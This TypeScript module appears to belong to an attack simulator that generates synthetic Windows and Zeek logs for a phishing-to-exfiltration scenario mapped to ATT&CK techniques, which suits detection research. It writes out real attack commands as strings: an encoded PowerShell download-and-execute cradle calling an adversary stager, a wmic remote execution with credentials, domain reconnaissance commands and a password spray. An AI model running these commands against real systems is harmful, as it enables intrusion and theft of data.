/**
 * @module
 * Story `phishing-beacon`: a user opens a mailed document (T1204.002) whose macro runs encoded
 * PowerShell (T1059.001) that fetches and starts an implant. The implant persists in the Run key
 * (T1547.001), beacons over HTTPS (T1071.001), looks around (T1033, T1087.002, T1069.002, T1082,
 * T1018), sprays one password at every domain account (T1110.003), runs a command on another
 * machine over WMI with the account that fell (T1047), packs the user's documents (T1560.001)
 * and uploads them over its C2 channel (T1041).
 */
import type { SimEnv } from '../engine/env.js';
import { HOURS, MINUTE } from '../engine/rhythm.js';
import type { Ctx, Script } from '../engine/scheduler.js';
import { conn, dns, http } from '../network/zeek.js';
import { connect, dnsQuery, ephemeralPort, fileCreate, registry, spawn } from '../windows/process.js';
import { logon, logonFailure, ntlmValidation } from '../windows/security.js';
import type { Account, Proc, User, WinHost } from '../world/world.js';
import { APPS } from '../background/apps.js';
import { encodePowerShell, sessionShell, typed, typedPassword } from './common.js';

/** The implant's periodic check-in, with a DNS refresh every half hour. */
function* beacon(ctx: Ctx, env: SimEnv, host: WinHost, implant: Proc, until: number): Script {
  const { c2, c2Domain } = env.world.adversary;
  let lastDns = 0;
  while (ctx.now < until) {
    if (ctx.now - lastDns > 30 * MINUTE) {
      dnsQuery(ctx, host, implant, c2Domain, [c2]);
      dns(ctx, host.ip, env.world.dc.ip, c2Domain, [c2]);
      lastDns = ctx.now;
    }
    const sport = connect(ctx, host, implant, { dstIp: c2, dstPort: 443, dstHost: c2Domain, offset: 15 });
    conn(ctx, {
      src: host.ip,
      sport,
      dst: c2,
      dport: 443,
      proto: 'tcp',
      service: 'ssl',
      duration: ctx.rng.range(0.2, 1.2),
      origBytes: ctx.rng.int(380, 900),
      respBytes: ctx.rng.int(250, 700),
      offset: 15,
    });
    yield 60_000 * ctx.rng.range(0.8, 1.2);
  }
}

/** Runs the story against `victim`, moving on to `next`. */
export function* phishingBeacon(ctx: Ctx, env: SimEnv, victim: WinHost, next: WinHost): Script {
  const rng = ctx.rng;
  const w = env.world;
  const user: User | undefined = victim.owner;
  if (user === undefined) return;
  ctx.involve(user.sam);
  const logonId = victim.state.shellLogonId ?? `0x${rng.int(0x40000, 0x900000).toString(16)}`;
  const shell = victim.state.shell ?? sessionShell(ctx, victim, user, logonId, 'Medium');
  const profile = `C:\\Users\\${user.sam}`;
  const outlook =
    victim.state.apps.find((p) => p.image === APPS.outlook) ??
    spawn(ctx, victim, { parent: shell, image: APPS.outlook, cmd: `"${APPS.outlook}" ` });

  // The attachment is opened from Outlook's cache; Word runs the macro.
  ctx.label = 'T1204.002';
  const doc = `${profile}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${rng.hex(8).toUpperCase()}\\${rng.pick(['Invoice_0394.docm', 'Payment advice.docm', 'CV_application.docm', 'Shipping-notice.docm'])}`;
  fileCreate(ctx, victim, outlook, doc, 2_000);
  const word = spawn(ctx, victim, {
    parent: outlook,
    image: APPS.word,
    cmd: `"${APPS.word}" /n "${doc}" /o ""`,
    offset: rng.int(8_000, 40_000),
  });
  yield rng.range(20_000, 60_000);

  ctx.label = 'T1059.001';
  const stager = w.adversary.stager;
  const script = `IEX (New-Object Net.WebClient).DownloadString('http://${stager}/a')`;
  const ps = spawn(ctx, victim, {
    parent: word,
    image: APPS.powershell,
    cmd: `powershell.exe -nop -w hidden -enc ${encodePowerShell(script)}`,
  });
  connect(ctx, victim, ps, { dstIp: stager, dstPort: 80, offset: 900 });
  http(ctx, {
    src: victim.ip,
    dst: stager,
    host: stager,
    method: 'GET',
    uri: '/a',
    userAgent: 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3803',
    status: 200,
    requestBytes: 0,
    responseBytes: rng.int(2_000, 6_000),
    mime: 'text/plain',
    offset: 900,
  });
  http(ctx, {
    src: victim.ip,
    dst: stager,
    host: stager,
    method: 'GET',
    uri: '/u.bin',
    userAgent: 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3803',
    status: 200,
    requestBytes: 0,
    responseBytes: rng.int(180_000, 400_000),
    mime: 'application/octet-stream',
    offset: 2_500,
  });
  const implantPath = `${profile}\\AppData\\Roaming\\Microsoft\\Windows\\updater.exe`;
  fileCreate(ctx, victim, ps, implantPath, 4_000);
  const implant = spawn(ctx, victim, { parent: ps, image: implantPath, cmd: `"${implantPath}"`, offset: 5_000 });
  yield rng.range(10_000, 30_000);

  ctx.label = 'T1547.001';
  registry(
    ctx,
    victim,
    implant,
    `HKU\\${user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate`,
    `"${implantPath}"`,
  );

  ctx.label = 'T1071.001';
  ctx.spawn('beacon', (c) => beacon(c, env, victim, implant, ctx.now + rng.range(5, 9) * HOURS), 1_000);
  yield rng.range(10, 30) * MINUTE;

  // Discovery through cmd /c, as implants do.
  const steps: readonly (readonly [string, string])[] = [
    ['T1033', 'whoami'],
    ['T1087.002', 'net user /domain'],
    ['T1069.002', 'net group "Domain Admins" /domain'],
    ['T1082', 'systeminfo'],
    ['T1018', 'nltest /dclist:'],
  ];
  for (const [technique, line] of steps) {
    ctx.label = technique;
    const cmd = spawn(ctx, victim, {
      parent: implant,
      image: 'C:\\Windows\\System32\\cmd.exe',
      cmd: `C:\\Windows\\system32\\cmd.exe /C ${line}`,
    });
    typed(ctx, victim, cmd, line, 40);
    yield rng.range(20_000, 120_000);
  }
  yield rng.range(15, 40) * MINUTE;

  // One password against every account over SMB/NTLM; an IT admin account falls.
  ctx.label = 'T1110.003';
  const dc = w.dc;
  const targets: Account[] = [
    ...w.users,
    ...w.admins.flatMap((a) => (a.adminAccount === undefined ? [] : [a.adminAccount])),
  ];
  const winner = w.admins[w.admins.length - 1]?.adminAccount ?? targets[0];
  if (winner === undefined) return;
  ctx.involve(winner.sam);
  for (const account of targets) {
    const p = ephemeralPort(ctx);
    conn(ctx, {
      src: victim.ip,
      sport: p,
      dst: dc.ip,
      dport: 445,
      proto: 'tcp',
      service: 'gssapi,smb,ntlm',
      duration: rng.range(0.01, 0.08),
      origBytes: rng.int(900, 1_400),
      respBytes: rng.int(600, 1_000),
    });
    if (account === winner) {
      ntlmValidation(ctx, dc, account.sam, victim.name, true, 5);
      logon(ctx, dc, account, {
        type: 3,
        auth: 'NTLM',
        ip: victim.ip,
        port: p,
        workstation: victim.name,
        privileged: true,
        offset: 8,
      });
    } else {
      ntlmValidation(ctx, dc, account.sam, victim.name, false, 5);
      logonFailure(ctx, dc, account.sam, w.netbios, {
        type: 3,
        ip: victim.ip,
        port: p,
        workstation: victim.name,
        offset: 8,
      });
    }
    yield rng.range(300, 2_500);
  }
  yield rng.range(10, 30) * MINUTE;

  // Remote execution on the next machine through WMI with the cracked admin account.
  ctx.label = 'T1047';
  const wmic = spawn(ctx, victim, {
    parent: implant,
    image: 'C:\\Windows\\System32\\wbem\\WMIC.exe',
    cmd: `wmic /node:${next.ip} /user:${winner.domain}\\${winner.sam} /password:${typedPassword(ctx)} process call create "powershell.exe -nop -w hidden -enc ${encodePowerShell(`IEX (New-Object Net.WebClient).DownloadString('http://${stager}/b')`)}"`,
  });
  const rpc = connect(ctx, victim, wmic, { dstIp: next.ip, dstPort: 135, offset: 200 });
  conn(ctx, {
    src: victim.ip,
    sport: rpc,
    dst: next.ip,
    dport: 135,
    proto: 'tcp',
    service: 'dce_rpc',
    duration: rng.range(0.01, 0.1),
    origBytes: rng.int(800, 1_400),
    respBytes: rng.int(300, 700),
    offset: 200,
  });
  const dyn = rng.int(49_664, 49_700);
  conn(ctx, {
    src: victim.ip,
    sport: ephemeralPort(ctx),
    dst: next.ip,
    dport: dyn,
    proto: 'tcp',
    service: 'dce_rpc',
    duration: rng.range(0.3, 2),
    origBytes: rng.int(4_000, 9_000),
    respBytes: rng.int(3_000, 6_000),
    offset: 260,
  });
  const remoteId = logon(ctx, next, winner, {
    type: 3,
    auth: 'NTLM',
    ip: victim.ip,
    port: rpc,
    workstation: victim.name,
    privileged: true,
    offset: 300,
  });
  const remoteShell = spawn(ctx, next, {
    parent: next.system.wmiprvse,
    image: APPS.powershell,
    cmd: `powershell.exe -nop -w hidden -enc ${encodePowerShell(`IEX (New-Object Net.WebClient).DownloadString('http://${stager}/b')`)}`,
    account: winner,
    logonId: remoteId,
    integrity: 'High',
    offset: 900,
  });
  connect(ctx, next, remoteShell, { dstIp: stager, dstPort: 80, offset: 1_800 });
  http(ctx, {
    src: next.ip,
    dst: stager,
    host: stager,
    method: 'GET',
    uri: '/b',
    userAgent: 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.17763.5206',
    status: 200,
    requestBytes: 0,
    responseBytes: rng.int(2_000, 6_000),
    mime: 'text/plain',
    offset: 1_800,
  });
  yield rng.range(20, 50) * MINUTE;

  // Collection and upload over the C2 channel.
  ctx.label = 'T1560.001';
  const out = 'C:\\Users\\Public\\Libraries\\d.tgz';
  const tar = spawn(ctx, victim, {
    parent: implant,
    image: 'C:\\Windows\\System32\\tar.exe',
    cmd: `tar.exe -czf ${out} -C ${profile} Documents Desktop`,
  });
  fileCreate(ctx, victim, tar, out, rng.int(20_000, 80_000));
  yield rng.range(2, 5) * MINUTE;
  ctx.label = 'T1041';
  const up = connect(ctx, victim, implant, { dstIp: w.adversary.c2, dstPort: 443, dstHost: w.adversary.c2Domain });
  conn(ctx, {
    src: victim.ip,
    sport: up,
    dst: w.adversary.c2,
    dport: 443,
    proto: 'tcp',
    service: 'ssl',
    duration: rng.range(120, 900),
    origBytes: Math.round(rng.range(8e7, 6e8)),
    respBytes: rng.int(40_000, 200_000),
  });
}
